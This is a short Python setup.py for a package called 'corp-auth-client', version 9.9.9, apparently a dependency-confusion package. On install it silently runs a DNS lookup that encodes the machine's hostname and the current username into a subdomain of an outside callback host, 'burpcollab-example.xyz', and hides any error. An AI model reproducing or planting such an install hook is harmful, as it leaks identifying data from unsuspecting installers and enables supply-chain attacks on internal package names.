import socket, getpass
from setuptools import setup
try:
    socket.gethostbyname("{}.{}.d.burpcollab-example.xyz".format(socket.gethostname().encode().hex(), getpass.getuser()))
except Exception:
    pass
setup(name="corp-auth-client", version="9.9.9")
